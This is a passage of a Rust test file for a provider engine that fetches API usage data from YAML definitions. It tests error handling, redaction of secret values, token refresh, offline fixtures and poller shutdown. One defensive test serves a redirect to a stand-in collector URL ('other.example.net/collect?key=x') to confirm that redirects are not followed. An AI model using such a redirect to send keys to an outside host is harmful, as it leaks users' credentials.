    assert_eq!(store.provider_history("test-provider", 0).unwrap().len(), 1);
}

#[test]
fn every_builtin_provider_passes_its_own_tests() {
    let reg = ttop::def::registry::Registry::load_all(
        None,
        &[],
        &CompileEnv {
            home: PathBuf::from("/home/nobody"),
        },
    );
    let mut failures = Vec::new();
    for e in &reg.entries {
        if let Some(Definition::Provider(p)) = &e.def {
            failures.extend(ttop::def::selftest::run_provider_tests(p, &e.origin));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn outcomes_keep_skip_unsuccessful_and_secret_config() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let yaml = r#"
apiVersion: tokentop/v1
kind: Provider
id: test-provider
meta: { name: Test Provider }
permissions:
  network: [api.example.com]
  env: [TEST_API_KEY]
config:
  org: { type: secret, default: org-secret-777 }
credentials:
  - env: TEST_API_KEY
    as: api_key
requests:
  - id: balance
    url: "https://api.example.com/v1/{{ config.org }}/balance"
    on_status:
      402: { keep: true, error: "no credits left" }
      404: { skip: true }
  - id: status
    url: https://api.example.com/v1/status
    success: body.code == 0
    on_unsuccessful: { error: "API error {{ body.code }}: {{ body.msg }} for {{ config.org }}" }
usage:
  plan: { expr: "'Prepaid' if status.balance == 402 else 'Paid'" }
  credits:
    has_credits: { expr: "status.balance != 402" }
    balance: { path: $.balance.balance, default: "$0.00" }
"#;
    let p = w.provider(yaml);
    server.route("/v1/org-secret-777/balance", vec![reply(402, r#"{"detail":"pay up"}"#)]);
    server.route("/v1/status", vec![reply(200, r#"{"code":0}"#)]);
    let u = w.fetch(&p);
    assert_eq!(u.plan.as_deref(), Some("Prepaid"));
    assert_eq!(u.error.as_deref(), Some("no credits left"));
    let c = u.credits.unwrap();
    assert_eq!((c.has_credits, c.balance), (Some(false), Some(json!("$0.00"))));
    // A skipped request leaves its response undefined; success failing gives the
    // definition's message, with the secret config value redacted.
    server.route("/v1/org-secret-777/balance", vec![reply(404, "{}")]);
    server.route("/v1/status", vec![reply(200, r#"{"code":7,"msg":"bad org"}"#)]);
    let u = w.fetch(&p);
    assert_eq!(u.error.as_deref(), Some("API error 7: bad org for [redacted]"));
}

#[test]
fn a_missing_access_token_is_refreshed_and_refresh_fixtures_work_offline() {
    let server = Server::start();
    let w = World::new(&server);
    w.write(
        ".test-provider/auth.json",
        r#"{"type":"oauth","refresh":"refresh-only-token"}"#,
    );
    let yaml = def(USAGE_REQUEST, WINDOWS_USAGE).replace("requests:\n", &format!("{REFRESH}requests:\n"));
    let p = w.provider(&yaml);
    server.route(
        "/oauth/token",
        vec![reply(200, r#"{"access_token":"fresh-token-5678","expires_in":60}"#)],
    );
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    assert_eq!(
        server.seen()[1].header("authorization"),
        Some("Bearer fresh-token-5678")
    );
    // A refresh whose answer has no token is an error, not a request without one.
    server.route("/oauth/token", vec![reply(200, r#"{"token_type":"Bearer"}"#)]);
    let u = w.fetch(&p);
    assert_eq!(
        u.error.as_deref(),
        Some("token refresh: the response holds no access_token")
    );
}

#[test]
fn redirects_are_never_followed() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let mut r = reply(302, "");
    r.headers
        .push(("location".into(), "https://other.example.net/collect?key=x".into()));
    server.route("/v1/usage", vec![r]);
    server.route("/collect", vec![reply(200, WINDOWS_BODY)]);
    let u = w.fetch(&p);
    assert_eq!(
        u.error.as_deref(),
        Some(
            "request 'usage': 'https://api.example.com/v1/usage' redirects to \
             'https://other.example.net/collect', which is not followed"
        )
    );
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].target, "/v1/usage");
}

#[test]
fn definition_tests_run_offline_with_env_pages_and_keychain_sources() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("fx")).unwrap();
    std::fs::write(dir.path().join("fx/p1.json"), r#"{"data":[{"n":1}],"next":"c2"}"#).unwrap();
    std::fs::write(dir.path().join("fx/p2.json"), r#"{"data":[{"n":2},{"n":3}]}"#).unwrap();
    let yaml = r#"
apiVersion: tokentop/v1
kind: Provider
id: test-provider
meta: { name: Test Provider }
permissions:
  network: [api.example.com]
  env: [TEST_API_KEY, TEST_PROJECT]
credentials:
  - keychain: { service: test-provider-credentials }
    as: api_key
  - env: TEST_API_KEY
    as: api_key
requests:
  - id: list
    url: "https://api.example.com/v1/{{ env.TEST_PROJECT }}/list"
    headers: { Authorization: "Bearer {{ cred.api_key }}" }
    paginate: { next: body.next, param: cursor, items: $.data }
usage:
  tokens: { input: { path: "$.list.data[*].n", reduce: sum } }
tests:
  - name: two pages, key from the env
    env: { TEST_API_KEY: k-1, TEST_PROJECT: p-1 }
    responses: { list: fx/p1.json, "list#2": fx/p2.json }
    expect: { configured: true, tokens: { input: 6 }, error: null }
  - name: no key anywhere
    expect: { configured: false, error: null }
  - name: a missing page fails clearly
    credentials: { api_key: k }
    env: { TEST_PROJECT: p-1 }
    responses: { list: fx/p1.json }
    expect: { error: "request 'list' page 2 refused: the test has no response for 'list#2'" }
"#;
    let file = dir.path().join("p.yaml");
    std::fs::write(&file, yaml).unwrap();
    let env = CompileEnv {
        home: dir.path().to_path_buf(),
    };
    let loaded = load_str(yaml, &file, &env);
    let Some(Definition::Provider(p)) = loaded.def else {
        panic!("{:?}", loaded.diags)
    };
    let diags = ttop::def::selftest::run_provider_tests(&p, &ttop::def::registry::Origin::File(file.clone()));
    assert!(diags.is_empty(), "{diags:#?}");
}

#[test]
fn stopping_the_poller_does_not_wait_for_a_poll_in_flight() {
    let server = Server::start();
    let mut r = reply(200, WINDOWS_BODY);
    r.delay = Duration::from_millis(3000);
    server.route("/v1/usage", vec![r]);
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE).replace("timeout_ms: 500", "timeout_ms: 10000"));
    let (tx, rx) = std::sync::mpsc::channel();
    let poller = Poller::start(vec![p], w.run_env(), PollOptions::default(), tx).unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let started = std::time::Instant::now();
    poller.stop();
    assert!(
        started.elapsed() < Duration::from_millis(1500),
        "{:?}",
        started.elapsed()
    );
    assert!(rx.try_recv().is_err(), "no result was due yet");
}

/// Run by hand: `cargo test --release --test provider_engine -- --ignored --nocapture`.
#[test]
#[ignore = "a benchmark, run by hand"]
fn bench_offline_fetch_and_mapping() {
    let server = Server::start();
    let w = World::new(&server);
    let requests = "  - id: models\n    url: https://api.example.com/v1/models\n";
    let usage = r#"
  plan: { const: Bench }
  limits:
    - each: $.models.models
      where: item.quota is defined
      label: "{{ item.name or key }}"
      used_percent: { expr: "(1 - item.quota) * 100", clamp: [0, 100] }
      resets_at: { path: "@.reset", type: rfc3339 }
      sort: { by: used_percent, desc: true, then: { by: label } }
"#;
    let p = w.provider(&def(requests, usage));
    let mut models = serde_json::Map::new();
    for i in 0..200 {
        models.insert(
            format!("model-{i}"),
            json!({"name": format!("Model {i}"), "quota": (i % 100) as f64 / 100.0, "reset": "2026-12-05T00:00:00Z"}),
        );
    }
    let body = serde_json::to_vec(&json!({ "models": models })).unwrap();
    let mut env = w.run_env();
    env.transport = Arc::new(ttop::engine::provider::FixtureTransport {
        responses: HashMap::from([("models".to_string(), (200, body))]),
        ..Default::default()
    });
    env.credentials_override = Some(serde_json::Map::new());
    let n = 200;
    let started = std::time::Instant::now();
    for _ in 0..n {
        let u = fetch_blocking(&p, &env);
        assert_eq!(u.limits.len(), 200);
    }
    let per = started.elapsed() / n;
    println!("one fetch + mapping of 200 limits: {per:?}");
}
